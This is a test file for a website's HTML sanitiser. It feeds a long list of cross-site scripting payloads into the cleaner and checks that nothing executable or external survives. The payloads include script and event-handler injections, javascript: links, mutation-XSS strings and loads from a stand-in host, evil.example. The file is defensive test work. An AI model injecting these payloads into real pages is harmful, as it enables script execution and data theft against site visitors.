/** Protects: whatever an operator's page is fed with, no browser runs anything of it [ASVS 1.2, 1.3.1]. */

import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanHtml, withAnchors } from './html.ts'

/** Ways to run a script or to tell a stranger who reads, by what they lean on. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/x 1x" src="/images/x">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a target=_blank href="https://ok.example" rel="opener">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";body{background:url(https://evil.example)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))" class="x" id="root">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<x onpointerenter=alert(1) tabindex=1>x</x>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="`"><img src="`"onerror=alert(1)//">',
  '<h2 id="getElementById" name="body">x</h2>',
  '<th scope="row" onmouseover=alert(1)>x</th>',
  '"><img src=x onerror=alert(1)>',
  '<a href="https://ok.example/" title="&quot; onmouseover=alert(1) x=&quot;">x</a>',
]

/** Reads HTML as browsers do where it matters: tags with their attributes, quoted or not. */
const tagPattern = /<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g
const attributePattern = /([a-z-]+)(?:="([^"]*)")?/g

/** What an attribute may say; one that is not here may not be at all. */
const allowedValues: Record<string, RegExp> = {
  href: /^(https:\/\/|mailto:|tel:|#|\/(?![/\\]))/,
  src: /^\/images\/[0-9a-f]{64}\/\d+$/,
  rel: /^noopener noreferrer nofollow$/,
  title: /^/,
  alt: /^/,
  width: /^\d*$/,
  height: /^\d*$/,
  loading: /^lazy$/,
  colspan: /^/,
  rowspan: /^/,
  scope: /^(col|row)$/,
}

function expectHarmless(clean: string) {
  const rest = clean.replace(tagPattern, '').replace(/<\/[a-z][a-z0-9]*>/g, '')
  // What is no whole tag holds no sign that could begin one.
  expect(rest, clean).not.toContain('<')
  for (const [, tag = '', attributes = ''] of clean.matchAll(tagPattern)) {
    expect(tag, clean).not.toMatch(
      /^(script|style|svg|math|iframe|object|embed|form|input|link|meta|base|template|video|audio|body|source|picture)$/,
    )
    for (const [, name = '', value = ''] of attributes.matchAll(attributePattern)) {
      expect(value, `${name} of ${clean}`).toMatch(allowedValues[name] ?? /^(?!)/)
    }
  }
}

test.each(attacks)('[ASVS 1.3.1] nothing runs of %j', (attack) => {
  for (const dirty of [attack, `<p>before ${attack} after</p>`, `<table><tr><td>${attack}`]) {
    const clean = cleanHtml(dirty)
    expectHarmless(clean)
    // Cleaned on the way in and on the way out: the second time must not make anything of what the first left.
    expect(cleanHtml(clean)).toBe(clean)
  }
})

test('[ASVS 1.3.1] attacks put together at random stay harmless, however often they are cleaned', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<!--',
      '-->',
      '<table>',
      '</table>',
      '"',
      "'",
      '`',
      '&lt;',
      '<b',
      '>',
      '\u0000',
    ),
    fc.string({ maxLength: 8 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const clean = cleanHtml(pieces.join(''))
      expectHarmless(clean)
      expect(cleanHtml(clean)).toBe(clean)
    }),
    { numRuns: 300, seed: 41 },
  )
})

test('what writers need stays as it was written', () => {
  const page =
    '<h2>Fees</h2><p>We take <strong>none</strong>, see <a href="/banking">banking</a>.</p><ul><li>one</li></ul><table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>'
  expect(cleanHtml(page)).toBe(page)
  const picture = `<img src="/images/${'a'.repeat(64)}/640" alt="A reef" width="640" loading="lazy" />`
  expect(cleanHtml(picture)).toBe(picture)
})

test('links out of the site vouch for nothing and tell nothing; those within it are plain', () => {
  expect(cleanHtml('<a href="https://help.example" rel="opener" target="_top">x</a>')).toBe(
    '<a href="https://help.example" rel="noopener noreferrer nofollow">x</a>',
  )
  expect(cleanHtml('<a href="/contact-us">x</a>')).toBe('<a href="/contact-us">x</a>')
})

test('headings get anchors and make the table of contents, in any script', () => {
  const { html, toc } = withAnchors(
    '<h2>Fees &amp; limits</h2><p>x</p><h3>提款</h3><h2>Fees &amp; limits</h2>',
  )
  expect(toc).toEqual([
    { level: 2, anchor: 'section-fees-limits', text: 'Fees & limits' },
    { level: 3, anchor: 'section-提款', text: '提款' },
    { level: 2, anchor: 'section-fees-limits-2', text: 'Fees & limits' },
  ])
  expect(html).toContain('<h2 id="section-fees-limits">Fees &amp; limits</h2>')
})
